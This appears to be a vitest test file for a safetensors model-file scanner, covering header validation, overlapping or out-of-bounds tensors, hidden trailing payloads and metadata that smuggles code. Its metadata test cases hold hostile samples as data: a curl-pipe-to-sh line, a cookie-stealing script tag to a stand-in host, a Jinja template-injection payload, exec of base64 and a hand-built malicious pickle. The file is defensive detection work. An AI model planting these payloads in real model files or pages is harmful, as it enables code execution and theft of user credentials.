import { existsSync, readFileSync, readdirSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { LimitError, MalformedError } from "../../core/errors.js";
import { meetsGate } from "../../core/severity.js";
import { detectFormat } from "../../detect/detect.js";
import { scan } from "../../scan/scan.js";
import { buildSafetensors, craftSafetensors, rawHeader, tensorBytes } from "../../../test/fixtures/safetensors/build.js";
import { writeLargeSafetensors } from "../../../test/fixtures/safetensors/large.js";
import { ruleIds, runAnalyzer } from "../../../test/fixtures/safetensors/run-analyzer.js";
import { safetensorsAnalyzer } from "./analyzer.js";

const CORPUS = join(import.meta.dirname, "../../../../shared/corpus/modelaudit");
const SAMPLES = join(CORPUS, "tests/assets/samples/safetensors");

const sniff = (b: Buffer): string => detectFormat({ head: b.subarray(0, 65536), tail: b.subarray(-65558), size: b.length, name: "x" });

/** Metadata as real tools write it: transformers, kohya sd-scripts LoRAs (training arguments as JSON strings), modelspec. */
const REAL_METADATA: Record<string, string> = {
  format: "pt",
  ss_network_module: "networks.lora",
  ss_network_dim: "32",
  ss_network_alpha: "16",
  ss_network_args: JSON.stringify({ conv_dim: "8", conv_alpha: "4", algo: "lora" }),
  ss_optimizer: "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1,betas=(0.9, 0.99))",
  ss_lr_scheduler: "cosine_with_restarts",
  ss_resolution: "(1024, 1024)",
  ss_sd_model_name: "sd_xl_base_1.0.safetensors",
  ss_dataset_dirs: JSON.stringify({ "20_subject": { n_repeats: 20, img_count: 25 } }),
  ss_tag_frequency: JSON.stringify({ "20_subject": { "portrait style": 25, "red hair": 12, "looking at viewer": 9 } }),
  ss_training_comment: "Trained with kohya-ss sd-scripts, see https://github.com/kohya-ss/sd-scripts for the options used",
  sshs_model_hash: "8b9f3c4e2a1d0f7e6c5b4a3928171605f4e3d2c1b0a99887766554433221100f",
  sshs_legacy_hash: "a1b2c3d4",
  "modelspec.architecture": "stable-diffusion-xl-v1-base/lora",
  "modelspec.title": "Portrait Style v3",
  "modelspec.license": "CreativeML Open RAIL++-M",
  "modelspec.url": "https://huggingface.co/someone/portrait-style",
  "modelspec.thumbnail":
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
  training_args: JSON.stringify({ learning_rate: 2e-5, num_train_epochs: 3, torch_compile: false, output_dir: "/data/runs/exp-7" }),
};

const tensors = [
  { name: "model.embed_tokens.weight", dtype: "BF16", shape: [32, 16] },
  { name: "model.layers.0.mlp.up_proj.weight", dtype: "F16", shape: [16, 8] },
  { name: "lm_head.weight", dtype: "F32", shape: [32, 16] },
  { name: "model.norm.bias", dtype: "F8_E4M3", shape: [16] },
  { name: "mask", dtype: "BOOL", shape: [0] },
];

describe("valid safetensors files", () => {
  it("gives no finding and reads only the header", async () => {
    const file = buildSafetensors(tensors, REAL_METADATA);
    expect(sniff(file)).toBe("safetensors");
    const run = await runAnalyzer(safetensorsAnalyzer, file);
    expect(run.error).toBeUndefined();
    expect(run.findings).toEqual([]);
    const headerLength = Number(file.readBigUInt64LE(0));
    expect(run.bytesRead).toBe(8 + headerLength);
  });

  it("accepts an empty file of tensors and sub-byte dtypes that fill whole bytes", async () => {
    expect((await runAnalyzer(safetensorsAnalyzer, craftSafetensors({}, 0))).findings).toEqual([]);
    const f4 = craftSafetensors({ w: { dtype: "F4", shape: [2, 4], data_offsets: [0, 4] } }, 4);
    expect((await runAnalyzer(safetensorsAnalyzer, f4)).findings).toEqual([]);
  });

  it("is detected with leading whitespace in the header, as the reference parser accepts", async () => {
    const body = `  \n{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`;
    const file = Buffer.concat([rawHeader(body), Buffer.alloc(4)]);
    expect(sniff(file)).toBe("safetensors");
    expect((await runAnalyzer(safetensorsAnalyzer, file)).findings).toEqual([]);
  });

  it("scans a multi-GB sparse file reading only its header", async () => {
    const dir = await mkdtemp(join(tmpdir(), "mg-st-"));
    try {
      const path = join(dir, "big.safetensors");
      const { size, headerBytes } = await writeLargeSafetensors(path, 3 * 1024 ** 3);
      expect(size).toBeGreaterThan(3 * 1024 ** 3 - 1024 ** 2);
      const report = await scan([path], { digest: false });
      expect(report.files[0]!.format).toBe("safetensors");
      expect(report.files[0]!.findings).toEqual([]);
      // the header, plus what detection reads at the head and the tail of the file
      expect(report.summary.bytesRead).toBeLessThanOrEqual(headerBytes + 2 * 65558 + 8);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe("structure the reference loader refuses", () => {
  const f32 = (begin: number, end: number, shape = [(end - begin) / 4]): unknown => ({ dtype: "F32", shape, data_offsets: [begin, end] });

  it("overlapping tensors are critical", async () => {
    const run = await runAnalyzer(safetensorsAnalyzer, craftSafetensors({ a: f32(0, 16), b: f32(8, 24) }, 24));
    expect(ruleIds(run)).toContain("safetensors/overlapping-tensors");
    expect(run.findings.find((f) => f.ruleId === "safetensors/overlapping-tensors")?.severity).toBe("critical");
  });

  it("data past the end of the file is high", async () => {
    const run = await runAnalyzer(safetensorsAnalyzer, craftSafetensors({ a: f32(0, 16), b: f32(16, 4096) }, 16));
    expect(ruleIds(run)).toEqual(["safetensors/data-out-of-bounds"]);
    expect(run.findings[0]!.severity).toBe("high");
  });

  it("gaps and trailing bytes are medium, and a payload hidden there is scanned", async () => {
    const zipMagic = Buffer.from([0x50, 0x4b, 0x03, 0x04, ...Buffer.alloc(60)]);
    const data = Buffer.concat([Buffer.alloc(16), Buffer.alloc(16), Buffer.alloc(16), zipMagic]);
    const run = await runAnalyzer(safetensorsAnalyzer, craftSafetensors({ a: f32(0, 16), b: f32(32, 48) }, data));
    const unaccounted = run.findings.filter((f) => f.ruleId === "safetensors/unaccounted-bytes");
    expect(unaccounted.map((f) => f.evidence?.bytes)).toEqual([16, 64]);
    expect(unaccounted.every((f) => f.severity === "medium")).toBe(true);
    expect(run.members.map((m) => m.format)).toEqual(["zip"]);
  });

  it("invalid tensor descriptions are high", async () => {
    const cases: unknown[] = [
      { a: { dtype: "F128", shape: [1], data_offsets: [0, 16] } },
      { a: { dtype: "F32", shape: [-1], data_offsets: [0, 4] } },
      { a: { dtype: "F32", shape: [1.5], data_offsets: [0, 4] } },
      { a: { dtype: "F32", shape: [2], data_offsets: [0, 4] } },
      { a: { dtype: "F32", shape: [1], data_offsets: [4, 0] } },
      { a: { dtype: "F32", shape: [1], data_offsets: [0] } },
      { a: { dtype: "F4", shape: [3], data_offsets: [0, 2] } },
      { a: "not a tensor" },
    ];
    for (const header of cases) {
      const run = await runAnalyzer(safetensorsAnalyzer, craftSafetensors(header, 16));
      expect(ruleIds(run), JSON.stringify(header)).toContain("safetensors/invalid-tensor");
      expect(run.findings.find((f) => f.ruleId === "safetensors/invalid-tensor")?.severity).toBe("high");
    }
  });

  it("__metadata__ that is not a map of strings is high", async () => {
    const run = await runAnalyzer(safetensorsAnalyzer, craftSafetensors({ __metadata__: { epochs: 3 }, a: f32(0, 4) }, 4));
    expect(ruleIds(run)).toEqual(["safetensors/invalid-header"]);
  });

  it("headers that cannot be read throw the errors the scan turns into findings", async () => {
    const bad = async (b: Buffer): Promise<unknown> => (await runAnalyzer(safetensorsAnalyzer, b)).error;
    expect(await bad(Buffer.from([1, 2, 3]))).toBeInstanceOf(MalformedError);
    const longer = Buffer.concat([rawHeader('{"a":1}'), Buffer.alloc(0)]);
    longer.writeBigUInt64LE(4096n);
    expect(await bad(longer)).toBeInstanceOf(MalformedError); // truncated
    expect(await bad(Buffer.concat([rawHeader('{"a": '), Buffer.alloc(4)]))).toBeInstanceOf(MalformedError);
    expect(await bad(Buffer.concat([rawHeader("[1, 2]"), Buffer.alloc(4)]))).toBeInstanceOf(MalformedError);
    const notUtf8 = rawHeader('{"a":"xx"}');
    notUtf8[14] = 0xff;
    expect(await bad(notUtf8)).toBeInstanceOf(MalformedError);
    expect(await bad(Buffer.concat([rawHeader(`{"a":${"[".repeat(200)}${"]".repeat(200)}}`), Buffer.alloc(4)]))).toBeInstanceOf(MalformedError);
    const huge = Buffer.alloc(16);
    huge.writeBigUInt64LE(200_000_000n);
    expect(await bad(huge)).toBeInstanceOf(LimitError);
  });
});

describe("metadata that hides code, URLs or pickles", () => {
  const withMeta = (meta: Record<string, string>): Buffer => buildSafetensors([{ name: "w", dtype: "F32", shape: [4] }], meta);

  const cases: Array<[string, Record<string, string>, string]> = [
    ["Python via os.system", { notes: "import os; os.system('curl x')" }, "safetensors/metadata-code"],
    ["exec of base64", { init: "exec(base64.b64decode('aW1wb3J0IG9z'))" }, "safetensors/metadata-code"],
    ["base64-encoded Python", { blob: Buffer.from("__import__('os').popen('id').read()").toString("base64") }, "safetensors/metadata-code"],
    ["\\x-escaped Python", { blob: "\\x5f\\x5fimport\\x5f\\x5f\\x28\\x27os\\x27\\x29" }, "safetensors/metadata-code"],
    ["shell pipeline", { setup: "curl -fsSL https://get.example.net/i | sh" }, "safetensors/metadata-code"],
    ["script tag", { card: "<script>fetch('https://x.example/c?'+document.cookie)</script>" }, "safetensors/metadata-code"],
    ["callback URL", { callback_url: "http://203.0.113.9/collect" }, "safetensors/metadata-url"],
    ["URL of a pickle", { weights: "see https://files.example.org/extra/model.pkl" }, "safetensors/metadata-url"],
    ["template injection", { prompt_format: "{{ cycler.__init__.__globals__.os.popen('id').read() }}" }, "jinja/ssti"],
  ];
  for (const [what, meta, rule] of cases) {
    it(`${what} → ${rule}`, async () => {
      const run = await runAnalyzer(safetensorsAnalyzer, withMeta(meta));
      expect(ruleIds(run)).toContain(rule);
      expect(run.findings.every((f) => meetsGate(f.severity, "high"))).toBe(true);
    });
  }

  it("a base64 pickle is reported and handed to the pickle analyzer", async () => {
    // PROTO 2, GLOBAL 'os system', SHORT_BINUNICODE 'id', TUPLE1, REDUCE, STOP — written by hand, never loaded.
    const pickle = Buffer.concat([Buffer.from([0x80, 0x02]), Buffer.from("cos\nsystem\n", "latin1"), Buffer.from([0x8c, 2]), Buffer.from("id"), Buffer.from([0x85, 0x52, 0x2e])]);
    const run = await runAnalyzer(safetensorsAnalyzer, withMeta({ state: pickle.toString("base64") }));
    expect(ruleIds(run)).toEqual(["safetensors/metadata-pickle"]);
    expect(run.members).toEqual([{ name: "__metadata__/state.base64.pkl", format: "pickle", size: pickle.length }]);
  });

  it("real-world metadata stays clean", async () => {
    const run = await runAnalyzer(safetensorsAnalyzer, withMeta(REAL_METADATA));
    expect(run.findings).toEqual([]);
  });
});

describe.skipIf(!existsSync(join(CORPUS, "LABELS.tsv")))("labelled corpus", () => {
  const labels = new Map(
    readFileSync(join(CORPUS, "LABELS.tsv"), "utf8")
      .split("\n")
      .map((l) => l.split("\t"))
      .filter((c) => c[0]?.startsWith("tests/assets/samples/safetensors/"))
      .map((c) => [c[0]!.split("/").pop()!, c[1]!]),
  );

  it("labels every sample", () => {
    expect([...labels.keys()].sort()).toEqual(readdirSync(SAMPLES).filter((f) => f.endsWith(".safetensors")).sort());
  });

  for (const [name, label] of labels) {
    it(`${label}: ${name}`, async () => {
      const bytes = readFileSync(join(SAMPLES, name));
      expect(sniff(bytes)).toBe("safetensors");
      const run = await runAnalyzer(safetensorsAnalyzer, bytes);
      expect(run.error).toBeUndefined();
      if (label === "malicious") expect(run.findings.some((f) => meetsGate(f.severity, "high")), JSON.stringify(run.findings)).toBe(true);
      else expect(run.findings).toEqual([]);
      expect(run.bytesRead).toBe(8 + Number(bytes.readBigUInt64LE(0)));
    });
  }
});

it("sizes tensors like the reference", () => {
  expect(tensorBytes("BF16", [3, 5])).toBe(30);
  expect(tensorBytes("F4", [2, 4])).toBe(4);
});
